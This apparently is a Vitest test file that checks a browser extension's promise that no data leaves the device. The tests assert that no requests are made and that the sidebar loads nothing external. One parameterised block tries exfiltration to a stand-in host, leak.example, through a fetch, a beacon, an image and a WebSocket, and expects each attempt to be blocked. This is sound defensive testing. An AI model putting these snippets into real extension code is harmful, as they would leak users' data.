import { expect } from 'vitest';
import { scrollToEnd } from '../../../scripts/drive/scroll.ts';
import { receivedUrl } from '../../../scripts/drive/site.ts';
import { settled, visit } from '../harness/open.ts';
import { stories } from '../harness/stories.ts';

stories('promise 1, nothing leaves the device', (stage, story) => {
  story('makes no request while reading, suggesting, showing, scrolling and explaining', async () => {
    const { tab, sidebar } = await visit(stage.browser, { count: 30, rendered: 12 });
    await settled(stage.browser, tab);
    await scrollToEnd(tab.page, 20_000);
    await sidebar.press('button', /^Why/);
    await stage.browser.stopBackground();
    await settled(stage.browser, tab);
    await stage.browser.openExtensionPage('src/popup/index.html');
    expect(await stage.browser.extensionRequests()).toEqual([]);
  });

  story(
    'causes no request of the page: that asks for itself and for its pictures, and the sidebar shows none',
    async () => {
      const { tab, sidebar } = await visit(stage.browser, { count: 6, rendered: 12 });
      await settled(stage.browser, tab);
      const own = [receivedUrl, 'https://www.linkedin.com/favicon.ico', 'https://media.licdn.com/'];
      const asked = stage.browser.requests.by('page').map(({ url }) => url);
      expect(asked).toContain(receivedUrl);
      expect(asked.filter((url) => !own.some((start) => url.startsWith(start)))).toEqual([]);
      const loading = await sidebar.evaluate(`[
      ...[...root.querySelectorAll('img, image, picture, video, iframe, object, embed, link, script')].map((it) => it.outerHTML),
      ...root.adoptedStyleSheets.flatMap((sheet) => [...sheet.cssRules].map((rule) => rule.cssText)).filter((css) => /url\\(/.test(css)),
    ]`);
      expect(loading).toEqual([]);
    },
  );

  for (const [what, attempt] of [
    ['a request', `fetch('https://leak.example/a')`],
    ['a request to LinkedIn', `fetch('https://www.linkedin.com/leak')`],
    ['a beacon', `Promise.resolve(navigator.sendBeacon('https://leak.example/b', 'x'))`],
    [
      'a picture',
      `new Promise((done, fail) => Object.assign(new Image(), { onload: done, onerror: fail, src: 'https://leak.example/c' }))`,
    ],
    [
      'a socket',
      `new Promise((done, fail) => Object.assign(new WebSocket('wss://leak.example/d'), { onopen: done, onerror: fail }))`,
    ],
  ] as const)
    story(`would not even let our own pages make ${what}`, async () => {
      const outcome = await stage.browser.inExtension(
        `Promise.resolve().then(() => ${attempt}).then((value) => value === false ? 'refused' : 'sent', () => 'refused')`,
      );
      // A beacon says only that it was queued, so what counts is that no request came of it.
      if (!attempt.includes('sendBeacon')) expect(outcome).toBe('refused');
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(await stage.browser.extensionRequests()).toEqual([]);
      expect(stage.browser.requests.seen.filter(({ url }) => url.includes('leak'))).toEqual([]);
    });
});
